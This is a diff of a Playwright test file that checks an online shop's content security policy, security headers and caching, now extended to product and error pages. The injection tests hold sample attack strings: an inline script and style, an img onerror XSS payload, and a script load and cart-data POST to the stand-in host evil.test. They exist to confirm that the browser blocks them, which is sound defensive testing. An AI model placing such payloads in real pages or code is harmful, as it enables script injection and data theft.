@@ -1,6 +1,6 @@
 import { expect, test } from './shop.ts';
 import type { Shop } from './shop.ts';
-import { buyFirstOf, payByCard, signInToPay } from './steps.ts';
+import { buyFirstOf, payByCard, productName, productSlug, signInToPay } from './steps.ts';
 
 /** Waits for the page's violation events and the browser's logs. */
 async function expectRefusals(shop: Shop, ...patterns: RegExp[]) {
@@ -15,22 +15,34 @@ test('every file has security headers and the right cache lifetime', async ({ pa
     const { pathname } = new URL(response.url());
     headersByPath.set(pathname, response.headers());
   });
+  const productPage = `/p/${productSlug}/`;
+  const pages = ['/', productPage, '/c/women/', '/404.html'];
+  for (const path of ['/c/women/', '/404.html', productPage]) await page.goto(shop.url + path);
+  await expect(page.getByRole('heading', { name: productName })).toBeVisible();
+  await page.goto('about:blank');
   await page.goto(shop.url);
   await expect(page.getByRole('heading', { name: 'BEST SELLING' })).toBeVisible();
 
   const policy = headersByPath.get('/')?.['content-security-policy'] ?? '';
-  expect(policy).toMatch(/default-src 'none'; script-src 'self' 'sha256-[^']+' https:\/\/js\.stripe\.com; /);
+  // The script of the pages, and that of the page for missing ones.
+  expect(policy).toMatch(
+    /default-src 'none'; script-src 'self'(?: 'sha256-[^']+'){2} https:\/\/js\.stripe\.com; /,
+  );
   expect(policy).not.toMatch(/unsafe|\*/);
   const scripts = [...headersByPath].filter(([path]) => path.startsWith('/assets/'));
   expect(scripts.length).toBeGreaterThan(2);
-  for (const [path, headers] of [['/', headersByPath.get('/') ?? {}] as const, ...scripts]) {
+  expect([...headersByPath.keys()]).toEqual(expect.arrayContaining(pages));
+  for (const [path, headers] of [
+    ...[...headersByPath].filter(([pathname]) => pages.includes(pathname)),
+    ...scripts,
+  ]) {
     expect(headers, path).toMatchObject({
       'content-security-policy': policy,
       'x-content-type-options': 'nosniff',
       'x-frame-options': 'DENY',
       'referrer-policy': 'strict-origin-when-cross-origin',
       'cross-origin-opener-policy': 'same-origin',
-      'cache-control': path === '/' ? 'no-cache' : 'public, max-age=31536000, immutable',
+      'cache-control': pages.includes(path) ? 'no-cache' : 'public, max-age=31536000, immutable',
     });
   }
 
@@ -53,82 +65,91 @@ test('other sites cannot show the shop in a frame', async ({ page, shop }) => {
 for (const sendsHeaders of [true, false]) {
   test.describe(`on a host that sends ${sendsHeaders ? 'the headers' : 'no headers'}`, () => {
     test.use({ sendsHeaders });
-
-    test('injected scripts and styles are blocked', async ({ page, shop }) => {
-      await page.route(`${shop.url}/`, async (route) => {
-        const response = await route.fetch();
-        const injected =
-          '<script>document.title = "taken over"</script><style>#root { display: none }</style>';
-        await route.fulfill({
-          response,
-          body: (await response.text()).replace('</body>', `${injected}</body>`),
+    for (const [folder, heading] of [
+      ['', 'BEST SELLING'],
+      [`p/${productSlug}/`, productName],
+    ] as const) {
+      test(`injected scripts and styles are blocked, on /${folder}`, async ({ page, shop }) => {
+        await page.route(`${shop.url}/${folder}`, async (route) => {
+          const response = await route.fetch();
+          const injected =
+            '<script>document.title = "taken over"</script><style>#root { display: none }</style>';
+          await route.fulfill({
+            response,
+            body: (await response.text()).replace('</body>', `${injected}</body>`),
+          });
         });
+        await page.goto(`${shop.url}/${folder}`);
+        await expect(page.getByRole('contentinfo')).toBeAttached();
+        await expect(page.getByRole('heading', { name: heading, exact: true })).toBeVisible();
+        await expect(page).not.toHaveTitle('taken over');
+        await expectRefusals(
+          shop,
+          /Violation of script-src-elem: inline/,
+          /Executing inline script violates/,
+          /Violation of style-src-elem: inline/,
+          /Applying inline style violates/,
+        );
       });
-      await page.goto(shop.url);
-      await expect(page.getByRole('heading', { name: 'BEST SELLING' })).toBeVisible();
-      await expect(page).not.toHaveTitle('taken over');
-      await expectRefusals(
-        shop,
-        /Violation of script-src-elem: inline/,
-        /Executing inline script violates/,
-        /Violation of style-src-elem: inline/,
-        /Applying inline style violates/,
-      );
-    });
 
-    test('markup from strings and scripts from other hosts are blocked', async ({ page, shop }) => {
-      await page.goto(shop.url);
-      const refusals = await page.evaluate(() => {
-        const attempts = [
-          () => {
-            document.body.innerHTML = '<img src="x" onerror="alert(1)">';
-          },
-          () => {
-            document.createElement('script').src = 'https://evil.test/script.js';
-          },
-          () => {
-            const { trustedTypes } = window as unknown as {
-              trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
-            };
-            trustedTypes.createPolicy('unknown', { createHTML: (html: string) => html });
-          },
-        ];
-        return attempts.map((attempt) => {
-          try {
-            attempt();
-            return 'done';
-          } catch (error) {
-            return error instanceof TypeError ? 'refused' : String(error);
-          }
+      test(`markup from strings and scripts from other hosts are blocked, on /${folder}`, async ({
+        page,
+        shop,
+      }) => {
+        await page.goto(`${shop.url}/${folder}`);
+        const refusals = await page.evaluate(() => {
+          const attempts = [
+            () => {
+              document.body.innerHTML = '<img src="x" onerror="alert(1)">';
+            },
+            () => {
+              document.createElement('script').src = 'https://evil.test/script.js';
+            },
+            () => {
+              const { trustedTypes } = window as unknown as {
+                trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
+              };
+              trustedTypes.createPolicy('unknown', { createHTML: (html: string) => html });
+            },
+          ];
+          return attempts.map((attempt) => {
+            try {
+              attempt();
+              return 'done';
+            } catch (error) {
+              return error instanceof TypeError ? 'refused' : String(error);
+            }
+          });
         });
+        expect(refusals).toEqual(['refused', 'refused', 'refused']);
+        await expectRefusals(
+          shop,
+          /Violation of require-trusted-types-for/,
+          /requires 'TrustedHTML' assignment/,
+          /requires 'TrustedScriptURL' assignment/,
+          /Violation of trusted-types/,
+          /policy named 'unknown' violates|Creating a TrustedTypePolicy/,
+        );
       });
-      expect(refusals).toEqual(['refused', 'refused', 'refused']);
-      await expectRefusals(
-        shop,
-        /Violation of require-trusted-types-for/,
-        /requires 'TrustedHTML' assignment/,
-        /requires 'TrustedScriptURL' assignment/,
-        /Violation of trusted-types/,
-        /policy named 'unknown' violates|Creating a TrustedTypePolicy/,
-      );
-    });
 
-    test('requests to unknown hosts are blocked', async ({ page, shop }) => {
-      await page.goto(shop.url);
-      await expect(page.getByRole('heading', { name: 'BEST SELLING' })).toBeVisible();
-      const outcome = await page.evaluate(() =>
-        fetch('https://evil.test/collect', { method: 'POST', body: 'cart' }).catch(
-          (error: Error) => error.name,
-        ),
-      );
-      expect(outcome).toBe('TypeError');
-      await expectRefusals(
-        shop,
-        /Violation of connect-src: https:\/\/evil\.test\/collect/,
-        /Connecting to 'https:\/\/evil\.test\/collect' violates/,
-        /Fetch API cannot load/,
-      );
-    });
+      test(`requests to unknown hosts are blocked, on /${folder}`, async ({ page, shop }) => {
+        await page.goto(`${shop.url}/${folder}`);
+        await expect(page.getByRole('contentinfo')).toBeAttached();
+        await expect(page.getByRole('heading', { name: heading, exact: true })).toBeVisible();
+        const outcome = await page.evaluate(() =>
+          fetch('https://evil.test/collect', { method: 'POST', body: 'cart' }).catch(
+            (error: Error) => error.name,
+          ),
+        );
+        expect(outcome).toBe('TypeError');
+        await expectRefusals(
+          shop,
+          /Violation of connect-src: https:\/\/evil\.test\/collect/,
+          /Connecting to 'https:\/\/evil\.test\/collect' violates/,
+          /Fetch API cannot load/,
+        );
+      });
+    }
 
     test('the payment script is allowed and opens the payment page', async ({ page, shop }) => {
       const paymentPage = 'https://checkout.stripe.com/c/pay/';
